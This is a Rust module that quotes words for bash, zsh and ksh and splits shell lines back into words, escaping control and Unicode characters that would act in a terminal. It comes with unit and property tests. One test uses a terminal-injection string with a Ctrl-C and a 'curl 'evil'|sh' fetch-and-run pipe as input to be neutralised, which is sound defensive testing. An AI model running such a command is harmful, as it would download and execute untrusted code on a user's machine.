//! Words as a shell writes and reads them.

use crate::terminal::is_unsafe;

/// As a shell reads it back. What would act in the terminal that it is pasted into is spelled out,
/// in quotes that bash, zsh and ksh know.
pub(crate) fn quoted(word: &str) -> String {
    let is_plain = |it: char| it.is_ascii_alphanumeric() || "-_./:,=@%+{}".contains(it);
    if !word.is_empty() && word.chars().all(is_plain) {
        return word.to_owned();
    }
    if !word.contains(is_unsafe) {
        return format!("'{}'", word.replace('\'', "'\\''"));
    }
    let mut out = "$'".to_owned();
    for character in word.chars() {
        match character {
            '\\' | '\'' => out.extend(['\\', character]),
            it if !is_unsafe(it) => out.push(it),
            it if it.is_ascii() => out.push_str(&format!("\\x{:02x}", u32::from(it))),
            it => out.push_str(&format!("\\u{:04x}", u32::from(it))),
        }
    }
    out.push('\'');
    out
}

/// The words of a line; `None` if a quote in it is not closed.
pub(crate) fn split(line: &str) -> Option<Vec<String>> {
    shlex::split(&without_spelled_quotes(line)?)
}

/// The same line in the quotes that every shell knows.
fn without_spelled_quotes(line: &str) -> Option<String> {
    let (mut out, mut rest) = (String::new(), line);
    let mut quote = None;
    while let Some(character) = rest.chars().next() {
        if quote.is_none()
            && let Some(spelled) = rest.strip_prefix("$'")
        {
            let (text, after) = spelled_out(spelled)?;
            out.push_str(&format!("'{}'", text.replace('\'', "'\\''")));
            rest = after;
            continue;
        }
        let mut length = character.len_utf8();
        match (quote, character) {
            // What follows it is no quote.
            (None | Some('"'), '\\') => {
                length += rest.chars().nth(1).map_or(0, char::len_utf8);
            }
            (None, '\'' | '"') => quote = Some(character),
            (Some(open), it) if open == it => quote = None,
            _ => {}
        }
        out.push_str(&rest[..length]);
        rest = &rest[length..];
    }
    Some(out)
}

/// What stands up to the closing quote, and what follows that.
fn spelled_out(spelled: &str) -> Option<(String, &str)> {
    let mut out = String::new();
    let mut rest = spelled;
    loop {
        let at = rest.find(['\'', '\\'])?;
        out.push_str(&rest[..at]);
        let behind = &rest[at + 1..];
        if rest[at..].starts_with('\'') {
            return Some((out, behind));
        }
        let escape = behind.chars().next()?;
        rest = &behind[escape.len_utf8()..];
        let digits = match escape {
            'x' => 2,
            'u' => 4,
            'n' => {
                out.push('\n');
                continue;
            }
            't' => {
                out.push('\t');
                continue;
            }
            it => {
                out.push(it);
                continue;
            }
        };
        let number = u32::from_str_radix(rest.get(..digits)?, 16).ok()?;
        out.push(char::from_u32(number)?);
        rest = &rest[digits..];
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn words_are_quoted_as_far_as_they_have_to_be() {
        assert_eq!(quoted("orders-1.eu"), "orders-1.eu");
        assert_eq!(quoted(""), "''");
        assert_eq!(quoted("my group"), "'my group'");
        assert_eq!(quoted("it's $(x);"), "'it'\\''s $(x);'");
        // Pasted, these would be keys.
        assert_eq!(quoted("x\x03curl 'evil'|sh\n"), "$'x\\x03curl \\'evil\\'|sh\\x0a'");
        assert_eq!(quoted("\\\u{9b}\u{202e}"), "$'\\\\\\u009b\\u202e'");
    }

    #[test]
    fn a_shell_reads_them_back() {
        let words = ["x\x03|sh\n", "it's", "\\\u{9b}\u{202e}f", "\"a\\b\"", "größe"];
        let line: Vec<String> = words.iter().map(|it| quoted(it)).collect();
        let script = format!("printf '<%s>' {}", line.join(" "));
        let mut bash = std::process::Command::new("bash");
        let output = bash.args(["-c", &script]).env("LC_ALL", "C.UTF-8").output().unwrap();
        let printed: String = words.iter().map(|it| format!("<{it}>")).collect();
        assert_eq!(String::from_utf8(output.stdout).unwrap(), printed);
    }

    #[test]
    fn lines_are_split_as_a_shell_does() {
        let words = |line: &str| split(line).map(|it| it.join("|"));
        let is = |text: &str| Some(text.to_owned());
        assert_eq!(words("groups  delete 'a b' \"c d\" e\\ f"), is("groups|delete|a b|c d|e f"));
        assert_eq!(words("a$'\\x03\\'\\n'b '$'c"), is("a\x03'\nb|$c"));
        assert_eq!(words("'it'\\''s' \"$'x'\" \\$'x y'"), is("it's|$'x'|$x y"));
        assert_eq!(words("$'a"), None);
        assert_eq!(words("$'\\xzz'"), None);
        assert_eq!(words("'a"), None);
    }

    proptest! {
        #[test]
        fn what_is_quoted_is_split_again(words: Vec<String>) {
            // A line ends at its first NUL: no word of a command has one.
            let words: Vec<String> = words.iter().map(|it| it.replace('\0', "")).collect();
            let line: Vec<String> = words.iter().map(|it| quoted(it)).collect();
            prop_assert_eq!(split(&line.join(" ")), Some(words));
        }

        #[test]
        fn no_line_is_a_panic(line in "[$'\"\\\\xu0-9a ü]{0,20}") {
            split(&line);
        }
    }
}
